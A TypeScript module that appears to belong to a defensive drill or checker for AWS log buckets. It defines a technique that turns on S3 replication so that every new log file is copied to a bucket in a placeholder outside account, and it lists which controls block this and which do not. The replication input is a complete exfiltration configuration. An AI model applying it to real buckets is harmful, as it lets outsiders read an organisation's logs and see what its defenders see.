import type { LogBucket } from '../model/snapshot.ts';
import { technique } from '../model/technique.ts';
import { partitionOf } from './parts/partition.ts';

const OUTSIDER = '000000000000';

export default technique<LogBucket>({
  id: 's3-replicate-out',
  title: {
    en: 'Replicate the logs to an outside bucket',
    ja: 'ログを組織外のバケットにレプリケートする',
  },
  goal: 'redirect',
  mitre: ['T1537'],
  why: {
    en: 'S3 copies every new log file to a bucket of the attacker’s, who reads from then on what the defenders see.',
    ja: '新しいログファイルがすべて攻撃者のバケットにコピーされ、以後、攻撃者は防御側が見るものを読み取れます。',
  },
  sources: [
    'https://docs.aws.amazon.com/AmazonS3/latest/API/API_PutBucketReplication.html',
    'https://docs.aws.amazon.com/AmazonS3/latest/userguide/setting-repl-config-perm-overview.html',
  ],
  by: ['owner'],
  blockedBy: {
    en: 'A service or resource control policy that denies s3:PutReplicationConfiguration on the bucket; a data perimeter that keeps roles from writing to buckets outside the organization (aws:ResourceOrgID).',
    ja: 'バケットに対する s3:PutReplicationConfiguration を拒否する SCP または RCP。ロールによる組織外のバケットへの書き込みを防ぐデータ境界（aws:ResourceOrgID）。',
  },
  notBlockedBy: {
    en: 'Object Lock: nothing is changed in the bucket. A deny of s3:PutBucketReplication: the permission has another name than the operation.',
    ja: 'オブジェクトロック（バケットの内容は変わりません）。s3:PutBucketReplication の Deny（アクセス許可の名前はオペレーション名と異なります）。',
  },
  targets: (snapshot) => snapshot.logBuckets,
  requires: ({ arn, accountId, versioning }) => {
    if (versioning !== 'Enabled') return false;
    return accountId === undefined ? { resource: arn, action: 's3:ListBucket' } : true;
  },
  ways: (bucket) => {
    const partition = partitionOf(bucket.arn);
    const roles = `arn:${partition}:iam::${bucket.accountId ?? ''}:role/`;
    const role = `${roles}indelible-replication`;
    return [
      [
        {
          operation: 's3:PutBucketReplication',
          region: bucket.region,
          event: 'PutBucketReplication',
          needs: [
            { action: 's3:PutReplicationConfiguration', resource: bucket.arn },
            {
              action: 'iam:PassRole',
              resource: role,
              anyUnder: roles,
              context: { 'iam:PassedToService': 's3.amazonaws.com' },
            },
          ],
          input: {
            Bucket: bucket.name,
            ReplicationConfiguration: {
              Role: role,
              Rules: [
                {
                  ID: 'indelible-drill',
                  Status: 'Enabled',
                  Priority: 1,
                  Filter: { Prefix: '' },
                  DeleteMarkerReplication: { Status: 'Disabled' },
                  Destination: { Bucket: `arn:${partition}:s3:::indelible-outside`, Account: OUTSIDER },
                },
              ],
            },
          },
        },
      ],
    ];
  },
  harm: { en: 'outsiders read the logs', ja: 'ログが組織外で読まれる' },
});
